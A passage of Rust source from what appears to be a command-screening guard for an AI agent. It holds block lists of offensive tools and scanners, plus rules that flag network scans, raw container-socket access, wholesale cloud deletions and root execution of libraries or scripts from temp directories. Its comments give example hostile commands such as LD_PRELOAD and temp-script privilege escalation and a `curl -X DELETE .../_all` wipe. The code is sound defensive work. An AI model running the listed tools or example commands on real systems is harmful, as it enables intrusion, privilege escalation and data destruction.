    match (cmd.name(), verb) {
        ("stratus", Some("detonate")) => Some(AttackStep::Detonate),
        ("stratus", Some("warmup")) => Some(AttackStep::Prepare),
        ("pacu", _) if cmd.argv.iter().any(|a| a == "--exec" || a.starts_with("--module-name")) => {
            Some(AttackStep::Detonate)
        }
        _ => None,
    }
}

/// Offensive tools aimed at other hosts: scanners, online password guessers, spoofers,
/// exploitation and lateral-movement kits (offline crackers such as john or hashcat work on
/// local files and are not here).
const ATTACK_TOOLS: &[&str] = &[
    "hydra",
    "medusa",
    "ncrack",
    "patator",
    "wfuzz",
    "ffuf",
    "gobuster",
    "dirb",
    "dirbuster",
    "feroxbuster",
    "nikto",
    "masscan",
    "zmap",
    "arpspoof",
    "dnsspoof",
    "ettercap",
    "bettercap",
    "responder",
    "mitm6",
    "msfconsole",
    "msfvenom",
    "msfdb",
    "sqlmap",
    "crackmapexec",
    "netexec",
    "nxc",
    "evil-winrm",
    "kerbrute",
    "aireplay-ng",
    "airodump-ng",
    "mdk3",
    "mdk4",
    "reaver",
    "bully",
    "wifite",
    "hping3",
    "slowloris",
    "thc-ssl-dos",
    "yersinia",
    "beef-xss",
    "setoolkit",
    "impacket-secretsdump",
    "secretsdump.py",
    "psexec.py",
    "wmiexec.py",
    "smbexec.py",
    "ntlmrelayx.py",
    "mimikatz",
    "pspy",
    "linpeas.sh",
    "chisel",
    "ligolo-ng",
    "ldapdomaindump",
];

/// Network scanners: what they learn is another host's open doors.
const SCANNERS: &[&str] = &[
    "nmap",
    "rustscan",
    "arp-scan",
    "netdiscover",
    "nbtscan",
    "fping",
    "unicornscan",
    "naabu",
    "zgrab",
    "zgrab2",
];

/// nmap's options that take their value as the next word (`-p 22`, `--top-ports 100`).
const NMAP_VALUE_OPTIONS: &[&str] = &[
    "-T",
    "--stats-every",
    "--max-os-tries",
    "--scanflags",
    "--nsock-engine",
    "--traceroute-port",
    "-p",
    "-e",
    "-S",
    "-D",
    "-g",
    "-b",
    "-iL",
    "-iR",
    "-oN",
    "-oX",
    "-oS",
    "-oG",
    "-oA",
    "-sI",
    "--exclude",
    "--excludefile",
    "--exclude-ports",
    "--script",
    "--script-args",
    "--script-args-file",
    "--script-help",
    "--script-timeout",
    "--top-ports",
    "--port-ratio",
    "--min-rate",
    "--max-rate",
    "--source-port",
    "--data",
    "--data-string",
    "--data-length",
    "--ttl",
    "--spoof-mac",
    "--proxies",
    "--dns-servers",
    "--max-retries",
    "--host-timeout",
    "--scan-delay",
    "--max-scan-delay",
    "--min-hostgroup",
    "--max-hostgroup",
    "--min-parallelism",
    "--max-parallelism",
    "--min-rtt-timeout",
    "--max-rtt-timeout",
    "--initial-rtt-timeout",
    "--version-intensity",
    "--datadir",
    "--stylesheet",
    "--resume",
    "--mtu",
    "--ip-options",
    "--servicedb",
    "--versiondb",
];

/// What a command does to learn about the network or the machine's weak points, or None:
/// sweeping hosts or ports with a scanner (`nmap -sS 10.0.0.0/24`, `nc -zv host 1-1024`). A
/// scan of this machine alone (`nmap localhost`) is a developer checking their own ports.
/// Watching traffic (`tcpdump -i eth0 port 443`) is debugging, unless it fishes for
/// passwords (`secrets.input_capture`); discovery of the machine itself (`find / -perm
/// -4000`, `getcap -r /`) reads what any user may read: both are left alone.
fn reconnaissance(cmd: &SimpleCommand) -> Option<&'static str> {
    if asks_or_previews(&cmd.argv) {
        return None;
    }
    let name = cmd.name();
    let args = &cmd.argv[1..];
    let operands = || args.iter().filter(|a| !a.starts_with('-'));
    if SCANNERS.contains(&name) {
        // A scanner handed only loopback targets, or no target at all. Files it reads or
        // writes are not targets (`-oX scan/out.xml`, `-iL hosts.txt`).
        let file_option =
            |o: &str| o.starts_with("-o") || o.starts_with("-i") || o.starts_with("--script") || o.ends_with("file");
        // An address, a block (`10.0.0.0/24`), an IPv6 address or a host name: a word with a
        // dot or a colon, not a path; for nmap, whose options are known, any operand that is
        // not an option's value (`nmap -sV fileserver`).
        let target = |k: usize, a: &str| {
            let path = a.split_once('/').is_some_and(|(_, bits)| bits.parse::<u8>().is_err());
            let previous = k.checked_sub(1).map(|p| args[p].as_str());
            let a_file = previous.is_some_and(file_option);
            let value = name == "nmap" && previous.is_some_and(|p| NMAP_VALUE_OPTIONS.contains(&p));
            let bare_host = name == "nmap"
                && !value
                && a.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
                && a.starts_with(|c: char| c.is_ascii_alphanumeric())
                && a.contains(|c: char| c.is_ascii_alphabetic());
            let addressed = a.contains('.') || a.contains(':') || bare_host;
            !(a.starts_with('-') || !addressed || path || a_file)
        };
        let remote = args
            .iter()
            .enumerate()
            .any(|(k, a)| target(k, a) && !loopback_address(a));
        let sweep = args
            .iter()
            .any(|a| a == "--localnet" || a == "-l" && name == "arp-scan" || a == "-g");
        return (remote || sweep).then_some("scans other hosts' addresses or ports (network reconnaissance)");
    }
    if matches!(name, "nc" | "ncat" | "netcat") {
        // `nc -zv host 1-1024`, `nc -z host 22 80 443`: a connect scan of a port range.
        let zero_io = args
            .iter()
            .any(|a| a.starts_with('-') && !a.starts_with("--") && a.contains('z'));
        let ports: Vec<&String> = operands().skip(1).collect();
        let range = ports.iter().any(|p| p.contains('-')) || ports.len() > 2;
        let host = operands().next().is_some_and(|h| !loopback_address(h));
        return (zero_io && range && host).then_some("scans a range of another host's ports (network reconnaissance)");
    }
    None
}

/// `curl --unix-socket /var/run/docker.sock http://localhost/containers/create`, `socat -
/// UNIX-CONNECT:/run/containerd/containerd.sock`, `nc -U /var/run/docker.sock`: a raw client
/// speaking the container daemon's API, which the daemon answers as root. The runtimes' own
/// CLIs use the socket by design and are judged by what they ask for.
fn speaks_to_container_daemon(cmd: &SimpleCommand) -> bool {
    const SOCKETS: &[&str] = &[
        "docker.sock",
        "containerd.sock",
        "podman.sock",
        "crio.sock",
        "dockershim.sock",
    ];
    matches!(
        cmd.name(),
        "curl" | "wget" | "socat" | "nc" | "ncat" | "netcat" | "http" | "https" | "xh" | "websocat"
    ) && cmd.argv[1..].iter().any(|a| SOCKETS.iter().any(|s| a.contains(s)))
}

/// Words that, as a CLI's subcommand, delete what it manages.
const DELETE_WORDS: &[&str] = &[
    "delete",
    "destroy",
    "rm",
    "purge",
    "drop",
    "revoke",
    "undeploy",
    "undefine",
    "terminate",
    "wipe",
    "erase",
    "delete_member",
    "rm-service",
    "nuke",
    "unpublish",
    "deluser",
];

/// Verbs glued after what they delete: `pool-undefine`, `vol-delete`, `snapshot-destroy`.
const DELETE_SUFFIXES: &[&str] = &["-delete", "-undefine", "-destroy", "-remove", "-purge"];

/// Verbs glued to what they delete: `delete-bucket`, `delete_replica`, `deleteall`,
/// `destroy-stack`.
const DELETE_PREFIXES: &[&str] = &["delete", "destroy", "purge", "drop-", "drop_", "wipe"];

/// Programs whose delete subcommands touch only the workspace or installed packages, or that
/// have rules of their own.
const LOCAL_DELETERS: &[&str] = &[
    "rm",
    "rmdir",
    "unlink",
    "git",
    "npm",
    "pnpm",
    "yarn",
    "bun",
    "pip",
    "pip3",
    "pipx",
    "uv",
    "poetry",
    "pdm",
    "cargo",
    "rustup",
    "gem",
    "bundle",
    "composer",
    "go",
    "dotnet",
    "nuget",
    "conda",
    "mamba",
    "micromamba",
    "brew",
    "apt",
    "apt-get",
    "dnf",
    "yum",
    "pacman",
    "zypper",
    "apk",
    "snap",
    "flatpak",
    "nix-env",
    "asdf",
    "mise",
    "nvm",
    "pyenv",
    "sdk",
    "opam",
    "stack",
    "cabal",
    "helm",
    "kubectl",
    "oc",
    "tmux",
    "screen",
    "jj",
    "hg",
    "svn",
    "find",
    "xargs",
    "sed",
    "awk",
    "echo",
    "printf",
    "trash",
    "trash-put",
    "gio",
    "make",
    "just",
    "task",
    "npx",
    "pnpx",
    "bunx",
    "ipfs",
    "mc",
    "crontab",
    "ufw",
    "nft",
    "iptables",
    "ip",
    "nerdctl",
    "crictl",
    "toolbox",
    "distrobox",
    "limactl",
    "redis-cli",
    "valkey-cli",
    "keydb-cli",
    "ollama",
];

/// What a CLI's subcommand words say it deletes: `delete`, `sites:delete`, `pool-undefine`,
/// `delete-bucket`. The verb's index among `words` and the noun glued to it (`bucket` of
/// `delete-bucket`), when there is one.
fn deletion_verb<'a>(words: &[&'a str]) -> Option<(usize, Option<&'a str>)> {
    words.iter().enumerate().find_map(|(i, w)| {
        if w.contains(char::is_whitespace) || w.contains('/') {
            return None;
        }
        let lower = w.to_ascii_lowercase();
        if DELETE_WORDS.contains(&lower.as_str()) {
            return Some((i, None));
        }
        let glued = |rest: &'a str| rest.trim_matches(|c| c == '-' || c == '_');
        for p in DELETE_PREFIXES {
            if lower.starts_with(p) && w.len() > p.len() + 1 {
                return Some((i, Some(glued(&w[p.len()..]))));
            }
        }
        for s in DELETE_SUFFIXES {
            if lower.ends_with(s) && w.len() > s.len() + 1 {
                return Some((i, Some(glued(&w[..w.len() - s.len()]))));
            }
        }
        None
    })
}

/// What a deletion takes away as a whole when it is the thing deleted: an account's
/// organisation, project or team, a cluster, a database, a bucket, a repository, an app, a
/// stack, a site, a storage pool, a deployment or its secrets. Deleting one of these deletes
/// everything in it, or takes down what runs on it.
const WHOLE_NOUNS: &[&str] = &[
    "org",
    "orgs",
    "organization",
    "organizations",
    "organisation",
    "project",
    "projects",
    "account",
    "accounts",
    "team",
    "teams",
    "tenant",
    "subscription",
    "cluster",
    "clusters",
    "namespace",
    "namespaces",
    "database",
    "databases",
    "db",
    "dbs",
    "keyspace",
    "bucket",
    "buckets",
    "repo",
    "repos",
    "repository",
    "repositories",
    "registry",
    "app",
    "apps",
    "application",
    "applications",
    "stack",
    "stacks",
    "site",
    "sites",
    "workspace",
    "workspaces",
    "environment",
    "environments",
    "pool",
    "pools",
    "filesystem",
    "filesystems",
    "zone",
    // What a deployment's running service needs to start: its secrets and the deployment.
    "secret",
    "secrets",
    "deployment",
    "deployments",
];

/// Programs whose operands name programs or pages to look up (`which rm`, `type -a rm`, `man
/// rm`): naming a deletion verb there deletes nothing.
const NAME_LOOKUPS: &[&str] = &[
    "which", "type", "command", "whereis", "hash", "man", "info", "tldr", "apropos", "whatis", "help", "compgen",
];

/// `virsh undefine VM`, `openstack server delete ID`, `kaggle datasets delete D`, `netlify
/// sites:delete`: a CLI told to delete something it manages, off the workspace (warned). When
/// what it deletes is a whole (an organisation, a project, a cluster, a database, an app: the
/// word beside the verb, or glued to it), everything in it goes too (blocked), as does an HTTP
/// API's everything (`curl -X DELETE http://es:9200/_all`). Runs only where
/// no spec clause described the command: a spec that knows the verb decides.
fn managed_delete(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    let name = cmd.name();
    if LOCAL_DELETERS.contains(&name) || NAME_LOOKUPS.contains(&name) {
        return;
    }
    // The subcommand words, `apps:destroy` read as `apps` `destroy`.
    let words: Vec<&str> = cmd.argv[1..]
        .iter()
        .map(String::as_str)
        .filter(|a| !a.starts_with('-'))
        .take(4)
        .flat_map(|a| a.split(':').filter(|w| !w.is_empty()))
        .collect();
    // Docker's local objects (containers, images, networks, builders) are the deletion rules'
    // to judge; its swarm objects (secrets, services, configs, stacks, nodes) and a
    // container's volumes (`container rm -v`) are data kept elsewhere.
    if matches!(name, "docker" | "podman" | "nerdctl") {
        let volumes = cmd.argv.iter().any(|a| a == "-v" || a == "--volumes");
        let managed = matches!(
            words.first().copied(),
            Some("secret" | "service" | "config" | "stack" | "node" | "plugin" | "context" | "trust" | "manifest")
        ) || (words.first() == Some(&"container") && volumes);
        if !managed {
            return;
        }
    }
    // `tool help rm`, `tool rm --help`: the page about deleting, not a deletion.
    if cmd.argv[1..]
        .iter()
        .any(|a| matches!(a.as_str(), "help" | "--help" | "-h"))
    {
        return;
    }
    // `gh secret remove FOO`, `fly secrets unset KEY`: a deployment's secret taken away, in
    // the verbs secret stores use besides `delete`.
    let secret_removed = words
        .windows(2)
        .position(|w| {
            matches!(w[0].to_ascii_lowercase().as_str(), "secret" | "secrets")
                && matches!(w[1].to_ascii_lowercase().as_str(), "remove" | "unset" | "rm" | "del")
        })
        .map(|i| (i + 1, None));
    let Some((at, glued)) = deletion_verb(&words).or(secret_removed) else {
        return;
    };
    let whole = |w: &str| WHOLE_NOUNS.contains(&w.to_ascii_lowercase().as_str());
    // `undefine` forgets a definition (`virsh pool-undefine`): what it named stays on disk.
    let forgets = words[at].to_ascii_lowercase().contains("undefine");
    let noun = !forgets
        && match glued {
            Some(g) => whole(g),
            // The kind of object comes before the verb (`org destroy NAME`: what follows is a
            // name), or right after it when the verb comes first (`delete project NAME`).
            None if at > 0 => whole(words[at - 1]),
            None => words.get(1).is_some_and(|w| whole(w)),
        };
    // `curl -X DELETE http://es:9200/_all`, `.. /*`: an HTTP API told to delete every index or
    // object it holds.
    let everything = cmd.argv[1..].iter().any(|a| {
        // `http://es:9200/_all`, or without the scheme: `localhost:9200/_all`.
        let url = a
            .strip_prefix("http://")
            .or_else(|| a.strip_prefix("https://"))
            .or_else(|| {
                a.split_once('/')
                    .filter(|(host, _)| host.contains(':'))
                    .map(|_| a.as_str())
            });
        url.and_then(|u| u.split(['?', '#']).next()).is_some_and(|path| {
            let last = path.trim_end_matches('/').rsplit('/').next().unwrap_or("");
            path.contains('/') && matches!(last, "_all" | "*" | "%2a" | "%2A")
        })
    });
    if noun || everything {
        out.push(block(
            Category::Deletion,
            MANAGED_DELETE,
            Risk::Critical,
            cmd,
            "deletes a whole organisation, project, cluster, database, app, pool, deployment or secret with everything in it or that depends on it",
        ));
    } else {
        out.push(warn(
            Category::Deletion,
            MANAGED_DELETE,
            cmd,
            "deletes something the program manages (a machine, a service, a key, a record)",
        ));
    }
}

/// The files a program writes its output to, named by an option or an operand (see
/// [`output_targets`]), judged as writes whatever the program.
fn output_options(cmd: &SimpleCommand, ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
    let cwd = cmd.cwd.as_deref();
    for t in output_targets(cmd) {
        match place_of(t, cwd, ctx.workspace) {
            // An output file is replaced whole: the startup file becomes what the program
            // wrote, which no one has read.
            Place::Startup => out.push(block(
                Category::Persistence,
                STARTUP,
                Risk::High,
                cmd,
                format!("replaces {t}, a startup file run by every later shell, with a program's output"),
            )),
            place => written(cmd, t, place, out),
        }
    }
}

/// A shared library loaded from a temp directory into a program (`--engine /dev/shm/x.so`,
/// `enable -f /tmp/x.so`, `ladspa=file=/tmp/x.so`): code anyone could have dropped there.
fn library_loads(cmd: &SimpleCommand, ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
    let cwd = cmd.cwd.as_deref();
    // `LD_PRELOAD=/dev/shm/x.so cmd`: the loader maps it into the program before anything.
    let preloaded = cmd.assignments.iter().any(|a| {
        a.split_once('=').is_some_and(|(k, v)| {
            LOADER_VARIABLES.contains(&k)
                && v.split([':', ' '])
                    .any(|p| place_of(p, cwd, ctx.workspace) == Place::Temp)
        })
    });
    // `ldconfig -f /tmp/x.conf`, `ldconfig /tmp/libs`: the loader's cache built from a temp
    // directory.
    let cache_from_temp = cmd.name() == "ldconfig"
        && cmd.argv[1..]
            .iter()
            .any(|a| !a.starts_with('-') && place_of(a, cwd, ctx.workspace) == Place::Temp);
    // `sudo openssl req -engine ./x.so`, `sudo php -d extension=/tmp/x.so`: as root, a library
    // from the workspace or a temp directory is code the agent (or anyone) wrote, run as root.
    // Handed to be loaded: the value of an option or setting named for loading (`-engine X`,
    // `--module=X`, `-d extension=X`, `-agentpath:X`) or a loader variable's. A program that
    // handles files (`sudo cp -v build/x.so /usr/lib/`, `sudo sha256sum -b x.so`) loads none.
    // Anywhere but the system's own folders: a file a user (the agent among them) could write.
    let own = [
        Place::Temp,
        Place::Workspace,
        Place::WorkspaceAll,
        Place::Home,
        Place::Outside,
    ];
    let args = &cmd.argv[1..];
    let handles_files = FILE_HANDLERS.contains(&cmd.name());
    let names_loading = |o: &str| option_names::names(o, Purpose::Load);
    // `--plugin-dir=/tmp`, `-provider-path ./x`: the folder bare names are looked up in is
    // one users write, so a bare name (`SONAME 'x.so'`, `--plugin-load=x.so`) is a file there.
    let own_search_folder = cmd.as_root
        && args.iter().enumerate().any(|(k, a)| {
            let (option, folder) = match a.split_once('=') {
                Some((o, v)) => (o, Some(v)),
                None => (a.as_str(), args.get(k + 1).map(String::as_str)),
            };
            option.starts_with('-')
                && names_loading(option)
                && (option.ends_with("dir") || option.ends_with("path"))
                && folder.is_some_and(|f| own.contains(&place_of(f, cwd, ctx.workspace)))
        });
    let loads = args.iter().enumerate().any(|(k, a)| {
        // A command line or inline code (`sudo sh -c 'cp x.so /usr/lib'`) is read as the
        // commands it holds.
        let glued = a.split_once(['=', ':']).is_some_and(|(o, _)| names_loading(o));
        let after_option = k > 0 && args[k - 1].starts_with('-');
        // After an option or a word named for loading (`-engine X`, `pppd plugin X`), or
        // anywhere in a subcommand named so (`openssl engine -t X`).
        let word = |w: &str| w.starts_with('-') || w.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
        let subcommand = |w: &str| !w.starts_with('-') && word(w);
        let after = k > 0
            && ((word(&args[k - 1]) && names_loading(&args[k - 1]))
                || (subcommand(&args[0]) && names_loading(&args[0])));
        // A statement that loads it (`-e "INSTALL PLUGIN x SONAME './x.so'"`, `-c
        // 'ctypes.CDLL("./x.so")'`, `-g 'load_module ./x.so;'`, `.load ./x.so`).
        let statement = a.contains(char::is_whitespace) && {
            let lower = a.to_ascii_lowercase();
            LOADING_CALLS.iter().any(|c| lower.contains(c))
        };
        // A bare name (`SONAME 'auth_socket.so'`, `CDLL('libc.so.6')`) or one relative to
        // the program's own folder (`load_module modules/x.so`) is looked up in the
        // system's folders: only a path spelled from here, home or the root is a file.
        let explicit = |t: &str| own_search_folder || t.starts_with(['.', '/', '~', '$']);
        if statement
            && a.split(|c: char| c.is_whitespace() || "'\"(),;`".contains(c))
                .any(|token| explicit(token) && names_library_in(token, cwd, ctx.workspace, &own))
        {
            return !handles_files;
        }
        // A temp library after any option (`enable -f /dev/shm/x.so`): nothing of the
        // program's own lives there.
        let temp_after = (after_option || a.contains('=')) && names_library_in(a, cwd, ctx.workspace, &[Place::Temp]);
        // A value without a `/` is a name the program looks up in its own folders.
        !handles_files
            && !a.contains(char::is_whitespace)
            && (((glued || after)
                && (a.contains('/') || own_search_folder)
                && names_library_in(a, cwd, ctx.workspace, &own))
                || temp_after)
    }) || cmd.assignments.iter().any(|a| {
        a.split_once('=').is_some_and(|(k, v)| {
            LOADER_VARIABLES.contains(&k)
                && v.split([':', ' '])
                    .any(|p| p.contains('/') && names_library_in(p, cwd, ctx.workspace, &own))
        })
    });
    let root_loads = cmd.as_root && loads;
    if root_loads {
        out.push(block(
            Category::Privilege,
            LIBRARY_LOAD,
            Risk::Critical,
            cmd,
            "loads a shared library from a folder users write (the workspace, a home or temp directory) into a program running as root",
        ));
    } else if (preloaded && !cmd.as_root)
        || cache_from_temp
        || cmd.argv[1..]
            .iter()
            .any(|a| names_library_in(a, cwd, ctx.workspace, &[Place::Temp]))
    {
        out.push(warn(
            Category::Privilege,
            LIBRARY_LOAD,
            cmd,
            "loads a shared library from a temp directory into the program",
        ));
    }
}

/// How code loads a shared library in the languages and configurations programs take inline:
/// C's and Python's calls, SQLite's and MySQL's statements, nginx's and Apache's directives,
/// PostgreSQL's `LOAD`, Ruby's and Lua's `require`, tcl's `load`.
const LOADING_CALLS: &[&str] = &[
    "dlopen",
    "cdll",
    "loadlibrary",
    "load_extension",
    ".load ",
    "soname",
    "load_module",
    "loadmodule",
    "load '",
    "load \"",
    "load ./",
    "load /",
    "ffi.load",
    "require",
];

/// Variables the dynamic loader reads: the libraries or directories named there are loaded
/// before the program's own.
const LOADER_VARIABLES: &[&str] = &[
    "LD_PRELOAD",
    "LD_LIBRARY_PATH",
    "LD_AUDIT",
    "DYLD_INSERT_LIBRARIES",
    "DYLD_LIBRARY_PATH",
    "DYLD_FRAMEWORK_PATH",
];

/// Variables that say where a program, a shell or an interpreter finds what it runs or loads.
const SEARCH_VARIABLES: &[&str] = &[
    "PATH",
    "PYTHONPATH",
    "PYTHONSTARTUP",
    "PERL5LIB",
    "PERL5OPT",
    "RUBYLIB",
    "RUBYOPT",
    "NODE_PATH",
    "NODE_OPTIONS",
    "BASH_ENV",
    "ENV",
    "GCONV_PATH",
];

/// `sudo /tmp/.x/setup`, `sudo bash /tmp/x.sh`, `sudo PATH=/dev/shm/b:$PATH apt-get update`,
/// `sudo LD_PRELOAD=/tmp/x.so find`: a program, a script, a search path or a preloaded library
/// taken from a temp directory, where any user can write, run as root. Whoever put a file there
/// gets root.
fn run_from_temp(cmd: &SimpleCommand, ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
    if !cmd.as_root {
        return;
    }
    let cwd = cmd.cwd.as_deref();
    let code_file = |a: &str| {
        let file = a.rsplit('/').next().unwrap_or(a);
        file.rsplit_once('.')
            .is_some_and(|(stem, ext)| !stem.is_empty() && CODE_EXTENSIONS.iter().any(|c| c.eq_ignore_ascii_case(ext)))
    };
    // A script may be named relative to a temp directory the command runs in: a bare word
    // counts when it names a code file (`cd /tmp && sudo bash x.sh`); a command line (`sudo bash
    // -c 'apt-get update'`) or a command word (looked up in PATH) does not.
    let temp = |p: &str| {
        let p = p.trim_start_matches("--require=").trim_start_matches("-r");
        (p.contains('/') || (code_file(p) && !p.contains(char::is_whitespace)))
            && place_of(p, cwd, ctx.workspace) == Place::Temp
    };
    let program = cmd.argv[0].contains('/') && temp(&cmd.argv[0]);
    let name = cmd.name();
    // A shell or an interpreter (not a terminal, a multiplexer or a multi-call binary, whose
    // operands are no script): its script is its first operand, or the one after `run`
    // (`sudo deno run -A /tmp/x.ts`).
    let interpreter = (SHELLS_AND_REPLS.contains(&crate::guard::unversioned(name))
        && !matches!(name, "script" | "tmux" | "screen" | "busybox" | "capsh"))
        || crate::guard::carriers::is_shell(name)
        || name.starts_with("python")
        || SCRIPT_RUNNERS.contains(&name);
    // The interpreter's own options that take a value (`python3 -X dev /tmp/x.py`) are
    // skipped; its script is its first operand, or the one after a launching verb (`sudo deno
    // run -A /tmp/x.ts`, `sudo go run /tmp/x.go`, `sudo dotnet script /tmp/x.csx`).
    let valued = |o: &str| matches!(o, "-X" | "-W" | "-Q");
    let mut operands = cmd.argv[1..]
        .iter()
        .enumerate()
        .filter(|(k, a)| !(a.starts_with('-') || *k > 0 && valued(&cmd.argv[*k])))
        .map(|(_, a)| a);
    let (launched, first) = match operands.next() {
        Some(verb)
            if matches!(verb.as_str(), "run" | "script" | "r" | "fsi" | "runghc" | "runhaskell")
                || (verb == "apply" && name == "puppet") =>
        {
            (true, operands.next())
        }
        first => (false, first),
    };
    let runs_scripts = interpreter || (launched && LAUNCHERS.contains(&name));
    // A code file from a temp directory among its operands, after options whose values the
    // table does not know (`sudo bash -o errexit /tmp/x.sh`, `sudo ruby -I lib /tmp/x.rb`); a
    // module (`-m`) takes the operands as its own (`python3 -m py_compile /tmp/x.py`).
    let module = cmd.argv.iter().any(|a| a == "-m");
    let any_code = cmd.argv[1..]
        .iter()
        .take_while(|a| *a != "--")
        .any(|a| !a.starts_with('-') && code_file(a) && temp(a));
    // `sudo bash < /tmp/x.sh`, `sudo mysql < /tmp/x.sql`, `sudo make -f- < /tmp/Makefile`: the
    // script read on stdin from a temp file.
    let reads_script = runs_scripts
        || crate::guard::rules::database::is_client(name)
        || SCRIPT_OPTIONS.iter().any(|(p, _)| p.contains(&name));
    let fed_script = reads_script && cmd.inputs.iter().any(|f| temp(f));
    let script = fed_script || (runs_scripts && !module && (first.is_some_and(|a| temp(a)) || any_code));
    // `sudo awk -f /tmp/x.awk`, `sudo gdb -x /tmp/cmds`, `sudo vim -S /tmp/x.vim`: a program
    // whose option names the script it runs (see [`SCRIPT_OPTIONS`]). `make -C /tmp/build
    // install` runs a Makefile there too, but most often the one of a build the agent unpacked
    // there itself: left to the other rules.
    let script_file = script_option_files(cmd).into_iter().any(&temp);
    // `sudo mysql -e 'source /tmp/x.sql'`, `sudo sqlite3 db '.read /tmp/x.sql'`, `sudo psql -c
    // '\i /tmp/x.sql'`: a database client told, in its own command language, to run a file
    // (whose `\!`, `.shell` or `system` lines are shell commands).
    let inline_loaded = crate::guard::rules::database::is_client(name)
        && cmd.argv[1..].iter().any(|a| {
            // The verb starts the text or a command in it (`resource ` is not `source `).
            ["source ", "\\. ", ".read ", "\\i ", "\\ir ", "\\include "]
                .iter()
                .filter_map(|verb| {
                    a.match_indices(verb)
                        .find(|(at, _)| {
                            let before = &a[..*at];
                            before.trim().is_empty() || before.trim_end().ends_with(';') || before.ends_with('\n')
                        })
                        .map(|(at, _)| &a[at + verb.len()..])
                })
                .filter_map(|rest| rest.split([' ', ';', '\'', '"']).find(|w| !w.is_empty()))
                .any(&temp)
        });
    let script = script || script_file || inline_loaded;
    let variable = cmd.assignments.iter().find(|a| {
        a.split_once('=').is_some_and(|(k, v)| {
            (LOADER_VARIABLES.contains(&k) || SEARCH_VARIABLES.contains(&k)) && v.split([':', ' ']).any(&temp)
        })
    });
    // `sudo certbot --manual-auth-hook /tmp/x.sh`, `sudo tshark -Xlua_script:/tmp/x.lua`: code
    // from a temp directory handed to a program not known to only read or handle files, by an
    // option named for running or loading. As an operand, a temp script is most often a file
    // scanned, converted or backed up (`sudo clamscan /tmp/x.sh`), and an output is written,
    // not run.
    let handles_files = is_quiet(cmd.name()) || FILE_HANDLERS.contains(&cmd.name());
    let args = &cmd.argv[1..];
    let runs = option_names::names_run_or_load;
    let handed = |k: usize, a: &str| {
        let glued = a.starts_with('-') && a.split_once(['=', ':']).is_some_and(|(o, _)| runs(o));
        let after = k > 0 && args[k - 1].starts_with('-') && runs(&args[k - 1]);
        glued || after
    };
    let temp_code = !handles_files
        && args.iter().enumerate().any(|(k, a)| {
            handed(k, a)
                && !a.contains(char::is_whitespace)
                && paths_in(a)
                    .iter()
                    .any(|p| code_file(p) && place_of(p, cwd, ctx.workspace) == Place::Temp)
        });
    let what = if let Some(v) = variable {
        format!("runs as root with {v}, a search path or library from a temp directory")
    } else if program || script {
        "runs a program from a temp directory as root".to_string()
    } else if temp_code {
        "hands a program running as root code from a temp directory".to_string()
    } else {
        return;
    };
    out.push(block(
        Category::Privilege,
        ROOT_FROM_TEMP,
        Risk::Critical,
        cmd,
        format!("{what}: whoever can write there gets root"),
    ));
}

/// Interpreters, beyond the shells and prompts of `SHELLS_AND_REPLS`, whose first operand is
/// the script they run (`sudo tsx /tmp/x.ts`, `sudo bpftrace /tmp/x.bt`, `sudo m4 /tmp/x.m4`:
/// m4's `syscmd` runs a shell command).
const SCRIPT_RUNNERS: &[&str] = &[
    "source",
    ".",
    "Rscript",
    "java",
    "bun",
    "groovy",
    "kotlin",
    "osascript",
    "tsx",
    "ts-node",
    "ts-node-esm",
    "elixir",
    "runghc",
    "runhaskell",
    "swift",
    "m4",
    "bpftrace",
    "stap",
    "gnuplot",
    "jimsh",
    "ansible-playbook",
    "escript",
    "crystal",
    "dart",
    "zx",
    "rust-script",
    "raku",
    "perl6",
    "mono",
    "wine",
    "wine64",
    "dotnet",
    "chef-client",
    "chef-apply",
];

/// Launchers whose verb runs the file after it (`go run F`, `dotnet script F`, `cargo script F`).
const LAUNCHERS: &[&str] = &[
    "go", "dotnet", "cargo", "deno", "bun", "zig", "nim", "stack", "cabal", "puppet",
];

/// The files `cmd` runs because an option of its names them ([`SCRIPT_OPTIONS`]): `make -f F`,
/// `awk -fF`, `gdb -x F`, `sed --file=F`; `-` or `/dev/stdin` when the program is read from
/// stdin (`curl .. | make -f -`).
pub(crate) fn script_option_files(cmd: &SimpleCommand) -> Vec<&str> {
    let name = cmd.name();
    let Some((_, options)) = SCRIPT_OPTIONS.iter().find(|(programs, _)| programs.contains(&name)) else {
        return Vec::new();
    };
    cmd.argv[1..]
        .iter()
        .enumerate()
        .filter_map(|(k, a)| {
            let next = || cmd.argv.get(k + 2).map(String::as_str);
            options.iter().find_map(|o| {
                if a == o {
                    next()
                } else if o.starts_with("--") {
                    a.strip_prefix(o).and_then(|rest| rest.strip_prefix('='))
                } else {
                    // A short letter bundled (`-nf F`) or glued (`-fF`, `-x/tmp/c`).
                    let letter = o.chars().nth(1).filter(|_| o.len() == 2)?;
                    let bundle = crate::guard::options::bundle(a, |c| c == letter)?;
                    bundle
                        .value_letter
                        .and(bundle.glued)
                        .or_else(|| bundle.takes_next().then(next).flatten())
                }
            })
        })
        .collect()
}

/// Whether an option of `cmd`'s tells it to read the script it runs from stdin (`make -f -`,
/// `awk -f /dev/stdin`, `gdb -x /proc/self/fd/0`), however the path is spelled.
pub(crate) fn reads_script_from_stdin(cmd: &SimpleCommand) -> bool {
    script_option_files(cmd).into_iter().any(|f| f == "-" || names_stdin(f))
}

/// Whether `path` is the process's stdin, however it is spelled (`/dev/stdin`, `///dev/./stdin`,
/// `/dev/fd/0`, `/proc/self/fd/0`, `/proc/$$/fd/0`).
pub(crate) fn names_stdin(path: &str) -> bool {
    let path = crate::guard::normalize(std::path::Path::new(path));
    let path = path.to_string_lossy();
    matches!(&*path, "/dev/stdin" | "/dev/fd/0") || (path.starts_with("/proc/") && path.ends_with("/fd/0"))
}

/// Programs whose option names a script or command file they run: the options, short letters
/// as `-x` (bundled or glued too), long ones as `--name` (or `--name=F`).
const SCRIPT_OPTIONS: &[(&[&str], &[&str])] = &[
    (&["make", "gmake", "bmake"], &["-f", "--file", "--makefile"]),
    (&["awk", "gawk"], &["-f", "--file", "-E", "--exec", "-i", "--include"]),
    (&["mawk", "nawk", "sed", "gsed"], &["-f", "--file"]),
    (
        &["gdb", "gdb-multiarch", "cgdb"],
        &["-x", "--command", "-ix", "--init-command"],
    ),
    (&["lldb"], &["-s", "--source", "-S", "--source-before-file"]),
